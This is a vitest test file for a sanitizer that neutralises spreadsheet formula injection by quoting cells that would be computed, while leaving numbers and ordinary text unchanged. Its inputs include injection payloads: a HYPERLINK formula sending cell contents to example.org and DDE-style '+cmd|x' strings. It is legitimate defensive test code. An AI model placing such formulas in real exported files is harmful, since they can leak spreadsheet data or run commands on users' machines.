import fc from 'fast-check';
import { expect, test } from 'vitest';
import { spreadsheetCell } from '../../../src/base/spreadsheet-cell.ts';

test.each([
  '=1+1',
  '=HYPERLINK("https://example.org/?a="&A1)',
  '+cmd|x',
  '-2+3+cmd|x',
  '@SUM(A1)',
  ' =1',
  '\t=1',
  '\r=1',
  '\n@a',
])('a cell that a spreadsheet would compute is text: %j', (cell) => {
  expect(spreadsheetCell(cell)).toBe(`'${cell}`);
});

test.each([
  '-3',
  '+1,234.5',
  '-1 234,5',
  "-1'234",
  '-2 %',
  '-1.5e-7',
  '−3',
  'a=b',
  '3-4',
  '',
  'Côte d’Ivoire',
])('a number of any sign, and words, stay: %j', (cell) => {
  expect(spreadsheetCell(cell)).toBe(cell);
});

test('every number as a program writes it stays', () => {
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
      expect(spreadsheetCell(`${number}`)).toBe(`${number}`);
    }),
  );
});
